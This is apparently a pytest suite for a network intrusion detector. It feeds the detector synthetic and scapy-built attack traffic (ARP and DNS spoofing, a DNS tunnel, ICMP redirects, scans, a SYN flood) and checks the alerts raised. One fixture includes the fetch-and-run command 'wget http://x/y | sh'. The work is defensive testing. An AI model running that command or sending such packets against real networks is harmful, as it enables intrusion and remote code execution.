"""Detection end to end: every synthetic attack is found, with its category and technique, and
the benign scenarios stay quiet; attacks built independently with scapy are found too; the
thresholds and allowlists of the configuration are obeyed."""

from __future__ import annotations

import json

import pytest
from scapy.layers.dns import DNS, DNSQR, DNSRR
from scapy.layers.inet import ICMP, IP, TCP, UDP, IPerror, TCPerror
from scapy.layers.l2 import ARP, Ether
from scapy.utils import wrpcap

from detector.alerts import SEVERITY_RANK
from detector.cli.synth import ATTACK_NAMES, BENIGN_NAMES, SCENARIO_NAMES
from detector.config import load_config
from detector.pipeline.analyze_job import run_analyze

MEDIUM = SEVERITY_RANK["medium"]


@pytest.fixture(scope="module")
def labels(synth_dir):
    return json.loads((synth_dir / "labels.json").read_text())


def analyze(path, config=None, **kw):
    return run_analyze([str(path)], load_config(str(config) if config else None), None, progress=False, **kw).alerts


def with_telemetry(path, config):
    """A scenario analysed with its GPU partition's telemetry and Slurm accounting."""
    from detector.pipeline.telemetry_stage import TelemetryArgs

    folder = path.parent / "telemetry" / path.stem
    return analyze(path, config, telemetry=TelemetryArgs((str(folder / "gpu"), str(folder / "processes.jsonl")),
                                                         (str(folder / "sacct.json"),)))


def strong(alerts):
    return [a for a in alerts if a.severity_rank >= MEDIUM]


def test_scenario_names_match_the_registry():
    from detector.synth.scenarios import SCENARIOS

    assert set(SCENARIO_NAMES) == set(SCENARIOS) and len(SCENARIO_NAMES) == len(set(SCENARIO_NAMES))


@pytest.mark.parametrize("name", ATTACK_NAMES)
def test_each_synthetic_attack_is_detected(synth_dir, labels, name):
    (incident,) = labels[name]["incidents"]
    alerts = strong(with_telemetry(synth_dir / f"{name}.pcap", synth_dir / "site.toml"))
    hits = [a for a in alerts if a.category == incident["category"] and a.technique == incident["technique"]]
    assert len(hits) == 1, f"{name}: expected one {incident['category']}/{incident['technique']}, got {alerts}"
    hit = hits[0]
    # the alert names someone the label names, and its evidence overlaps the incident
    assert {hit.src_ip, hit.dst_ip, hit.host} & set(incident["hosts"]), (hit, incident["hosts"])
    assert hit.ts_ns <= incident["end_ns"] + 10**9 and hit.ts_end_ns >= incident["start_ns"] - 10**9
    # nothing else of medium or above: the background and the attack's side effects are quiet
    others = [a for a in alerts if a is not hit]
    if name == "theft-stratum":  # its miner also keeps cn0012's GPUs busy outside any job: one joined incident
        assert {a.technique for a in others} <= {"gpu_unallocated", "compute_outbound"} and hit.severity == "critical"
    else:
        assert others == [], alerts


def test_alerts_do_not_depend_on_the_order_flow_records_arrive_in(synth_dir, monkeypatch):
    """The GPU flow table, and the CPU's with several flow threads, emit the flows that end
    together in another order: every detector must give the same alerts, examples and uids too."""
    from detector.pipeline.stages import Stages

    cfg = synth_dir / "site.toml"
    as_read = {name: [a.to_dict() for a in analyze(synth_dir / f"{name}.pcap", cfg)] for name in ATTACK_NAMES}
    feed = Stages.feed_flow_batch
    monkeypatch.setattr(Stages, "feed_flow_batch", lambda self, rb, codes=None: feed(
        self, rb.take(list(range(rb.num_rows))[::-1]), None if codes is None else codes[::-1]))
    for name in ATTACK_NAMES:
        assert [a.to_dict() for a in analyze(synth_dir / f"{name}.pcap", cfg)] == as_read[name], name


@pytest.mark.parametrize("name", BENIGN_NAMES)
def test_benign_scenarios_raise_nothing_of_medium_or_above(synth_dir, labels, name):
    assert labels[name]["benign"] is True
    assert strong(with_telemetry(synth_dir / f"{name}.pcap", synth_dir / "site.toml")) == []


def test_partner_allowlist_is_what_keeps_backups_quiet(synth_dir):
    """Without the site's partner list, a login node pushing hundreds of MiB to an unknown
    external host is exactly what bulk_upload reports."""
    alerts = strong(analyze(synth_dir / "benign-login.pcap"))
    assert [(a.technique, a.src_ip) for a in alerts] == [("bulk_upload", "10.10.1.10")]


def test_upload_to_a_destination_nobody_contacted_before_says_so(synth_dir):
    [hit] = [a for a in strong(analyze(synth_dir / "exfil-bulk-upload.pcap", synth_dir / "site.toml"))
             if a.technique == "bulk_upload"]
    assert hit.evidence["new_destination"] is True and "no site host had contacted" in hit.summary
    assert hit.evidence["destination_first_contact_ns"] >= hit.ts_ns


def test_detector_thresholds_and_switches_come_from_the_config(synth_dir, tmp_path):
    site = (synth_dir / "site.toml").read_text()
    raised = tmp_path / "raised.toml"
    raised.write_text(site + "\n[detect.bruteforce]\nmin_failures = 500\nhigh_failures = 900\n")
    assert not [a for a in analyze(synth_dir / "access-ssh-bruteforce.pcap", raised) if a.technique == "ssh_bruteforce"]
    off = tmp_path / "off.toml"
    off.write_text('[detect]\ndisabled = ["port_scan"]\n\n' + site)
    assert not [a for a in analyze(synth_dir / "scan-ports.pcap", off) if a.category == "scan"]


def test_alerts_are_the_same_with_and_without_a_time_cut_at_the_end(synth_dir):
    path = synth_dir / "mitm-arp-spoof.pcap"
    full = [a.to_dict() for a in analyze(path)]
    cut = [a.to_dict() for a in analyze(path, until_ns=2**62)]
    assert full == cut and full


# -- attacks built with scapy, independent of the synthetic site -------------------------------
GW_MAC, GW_IP = "00:00:5e:00:01:01", "192.168.7.1"
VICTIM_MAC, VICTIM_IP = "52:54:00:00:00:0a", "192.168.7.10"
EVIL_MAC, EVIL_IP = "52:54:00:00:00:66", "192.168.7.66"


def _write(tmp_path, name, packets, t0=1_700_000_000.0, step=0.01):
    for k, p in enumerate(packets):
        p.time = t0 + k * step
    path = tmp_path / name
    wrpcap(str(path), packets)
    return path


def test_scapy_arp_poisoning_of_the_gateway(tmp_path):
    pkts = [Ether(src=VICTIM_MAC, dst="ff:ff:ff:ff:ff:ff") / ARP(op=1, hwsrc=VICTIM_MAC, psrc=VICTIM_IP, pdst=GW_IP),
            Ether(src=GW_MAC, dst=VICTIM_MAC) / ARP(op=2, hwsrc=GW_MAC, psrc=GW_IP, hwdst=VICTIM_MAC, pdst=VICTIM_IP)]
    pkts += [Ether(src=EVIL_MAC, dst=VICTIM_MAC) / ARP(op=2, hwsrc=EVIL_MAC, psrc=GW_IP, hwdst=VICTIM_MAC,
                                                       pdst=VICTIM_IP)] * 20
    cfg = tmp_path / "site.toml"
    cfg.write_text(f'[site]\nlocal_nets = ["192.168.7.0/24"]\ngateways = ["{GW_IP}"]\n')
    (a,) = [a for a in analyze(_write(tmp_path, "arp.pcap", pkts, step=1.0), cfg) if a.technique == "arp_spoof"]
    assert a.severity == "critical" and a.category == "mitm"
    assert EVIL_MAC in json.dumps(a.evidence) and GW_MAC in json.dumps(a.evidence)


def test_scapy_dns_tunnel_with_txt_queries(tmp_path):
    import base64
    import random

    rnd = random.Random(1)
    pkts = []
    for k in range(60):
        label = base64.b32encode(rnd.randbytes(35)).decode().rstrip("=").lower()
        name = f"{label}.x.exfil-example.com"
        pkts.append(Ether() / IP(src=VICTIM_IP, dst="9.9.9.9") / UDP(sport=30000 + k, dport=53)
                    / DNS(id=k, rd=1, qd=DNSQR(qname=name, qtype="TXT")))
        pkts.append(Ether() / IP(src="9.9.9.9", dst=VICTIM_IP) / UDP(sport=53, dport=30000 + k)
                    / DNS(id=k, qr=1, qd=DNSQR(qname=name, qtype="TXT"),
                          an=[DNSRR(rrname=name, type="TXT", rdata=base64.b64encode(rnd.randbytes(90)))]))
    (a,) = [a for a in strong(analyze(_write(tmp_path, "dns.pcap", pkts))) if a.technique == "dns_tunnel"]
    assert a.category == "exfiltration" and a.src_ip == VICTIM_IP
    assert "exfil-example.com" in a.summary


def test_scapy_icmp_redirect_from_a_workstation(tmp_path):
    quoted = IPerror(src=VICTIM_IP, dst="203.0.113.5") / TCPerror(sport=40000, dport=443)
    pkts = [Ether(src=EVIL_MAC, dst=VICTIM_MAC) / IP(src=EVIL_IP, dst=VICTIM_IP)
            / ICMP(type=5, code=1, gw=EVIL_IP) / quoted] * 4
    (a,) = [a for a in analyze(_write(tmp_path, "redir.pcap", pkts, step=2.0)) if a.technique == "icmp_redirect"]
    assert a.severity == "high" and a.src_ip == EVIL_IP and a.evidence["new_gateways"] == [EVIL_IP]


def test_scapy_connect_scan_and_a_few_failures_that_are_not_one(tmp_path):
    scan = []
    for port in range(1, 201):
        scan.append(Ether() / IP(src="198.51.100.9", dst=VICTIM_IP) / TCP(sport=55555, dport=port, flags="S", seq=1))
        scan.append(Ether() / IP(src=VICTIM_IP, dst="198.51.100.9") / TCP(sport=port, dport=55555, flags="RA", ack=2))
    (a,) = [a for a in analyze(_write(tmp_path, "scan.pcap", scan, step=0.002)) if a.technique == "port_scan"]
    assert a.severity == "high" and a.evidence["port_count"] == 200 and a.src_ip == "198.51.100.9"
    few = scan[:2 * 6]  # six refused ports: a misconfigured client, not a scan (Zeek's threshold is 15)
    assert not [a for a in analyze(_write(tmp_path, "few.pcap", few)) if a.category == "scan"]


def test_scapy_distributed_probing_by_hosts_that_each_stay_under_the_scan_thresholds(tmp_path):
    """Forty hosts each knock on two of eight backdoor ports of one server and are refused: no one
    of them is a scanner, together they are a worm's probing."""
    ports = [135, 139, 445, 1025, 2745, 3127, 6129, 5554]
    pkts = []
    for k in range(40):
        src = f"198.51.{100 + k // 200}.{10 + k}"
        for port in (ports[k % 8], ports[(k + 3) % 8]):
            pkts.append(Ether() / IP(src=src, dst=VICTIM_IP) / TCP(sport=40000 + k, dport=port, flags="S", seq=1))
            pkts.append(Ether() / IP(src=VICTIM_IP, dst=src) / TCP(sport=port, dport=40000 + k, flags="RA", ack=2))
    alerts = analyze(_write(tmp_path, "worm.pcap", pkts, step=0.05))
    (a,) = [a for a in alerts if a.technique == "distributed_scan"]
    assert a.dst_ip == VICTIM_IP and a.evidence["source_count"] == 40 and a.evidence["source_count_exact"]
    assert sorted(int(p.split("/")[1]) for p in a.evidence["ports"]) == sorted(ports)
    assert not [x for x in alerts if x.technique in ("port_scan", "address_sweep")]


def test_scapy_syn_flood_against_completed_handshakes(tmp_path):
    import random

    rnd = random.Random(2)
    flood = []
    for k in range(400):
        src = f"{rnd.randint(11, 200)}.{rnd.randint(0, 255)}.{rnd.randint(0, 255)}.{rnd.randint(1, 254)}"
        sp = rnd.randint(1024, 65000)
        flood.append(Ether() / IP(src=src, dst=VICTIM_IP) / TCP(sport=sp, dport=80, flags="S", seq=k))
        flood.append(Ether() / IP(src=VICTIM_IP, dst=src) / TCP(sport=80, dport=sp, flags="SA", seq=9, ack=k + 1))
    alerts = analyze(_write(tmp_path, "flood.pcap", flood, step=0.001))
    (a,) = [a for a in alerts if a.technique == "syn_flood"]
    assert a.category == "dos" and a.dst_ip == VICTIM_IP and a.severity_rank >= MEDIUM


def test_dns_spoof_race_is_one_alert(tmp_path):
    pkts = []
    for k, name in enumerate(["a.example.net", "b.example.net", "c.example.net"]):
        q = DNS(id=100 + k, rd=1, qd=DNSQR(qname=name))
        pkts.append(Ether() / IP(src=VICTIM_IP, dst="192.168.7.53") / UDP(sport=4000 + k, dport=53) / q)
        for ip in (EVIL_IP, "93.184.216.34"):
            pkts.append(Ether() / IP(src="192.168.7.53", dst=VICTIM_IP) / UDP(sport=53, dport=4000 + k)
                        / DNS(id=100 + k, qr=1, qd=DNSQR(qname=name), an=[DNSRR(rrname=name, rdata=ip)]))
    (a,) = [a for a in analyze(_write(tmp_path, "spoof.pcap", pkts)) if a.technique == "dns_spoof"]
    assert a.severity == "high" and len(a.evidence["queries"]) == 3 and a.evidence["sightings"] == 3


def test_remote_shell_skips_files_on_announced_ftp_data_connections_in_any_order():
    """A file sent over an FTP data connection may quote any command: the control connection's
    announcement (PASV reply) rules its marker packets out, whichever reaches the detector
    first; marker packets before any announcement still count."""
    from detector.detect.remote_shell import RemoteShell
    from detector.l7.events import Ctx, Events, FtpDataAnnounce, ShellEvent

    def shell_at(ts, sport):
        return ShellEvent(Ctx(ts, f"C{ts}", True, "10.0.0.5", "10.0.0.9", sport, 50001, 6), "wget_pipe_shell",
                          "wget http://x/y | sh")

    announce = FtpDataAnnounce(Ctx(100, "Cctl", False, "10.0.0.9", "10.0.0.5", 21, 40000, 6), (("10.0.0.9", 50001),))
    for order in ("announce first", "shell first"):
        det = RemoteShell()
        shell = Events(shell=[shell_at(200, 40002)])
        ann = Events(ftp_data=[announce])
        for ev in ((ann, shell) if order == "announce first" else (shell, ann)):
            det.observe_events(ev)
        assert det.finish() == [], order
    det = RemoteShell()
    det.observe_events(Events(shell=[shell_at(50, 40001)]))  # before the announcement: a shell
    det.observe_events(Events(ftp_data=[announce]))
    (alert,) = det.finish()
    assert alert.technique == "remote_shell" and alert.ts_ns == 50 and alert.src_port == 40001


def test_coin_ports_count_on_the_responder_only(tmp_path):
    """A web server whose clients' ephemeral source ports happen to be dogecoin's (22556) is no
    node; a host that reaches many peers on bitcoin's port 8333 is one."""
    server = "192.168.7.20"
    web = [Ether() / IP(src=f"203.0.113.{k}", dst=server) / TCP(sport=22556, dport=443, flags="S") for k in range(1, 21)]
    web += [Ether() / IP(src=server, dst=f"203.0.113.{k}") / TCP(sport=443, dport=22556, flags="SA")
            for k in range(1, 21)]
    node = [Ether() / IP(src="192.168.7.30", dst=f"198.51.100.{k}") / TCP(sport=40000 + k, dport=8333, flags="S")
            for k in range(1, 21)]
    cfg = tmp_path / "site.toml"
    cfg.write_text('[site]\nlocal_nets = ["192.168.7.0/24"]\n')
    found = [a for a in analyze(_write(tmp_path, "coins.pcap", web + node), cfg) if a.technique == "crypto_p2p"]
    assert [(a.host, a.evidence["network"]) for a in found] == [("192.168.7.30", "bitcoin")]
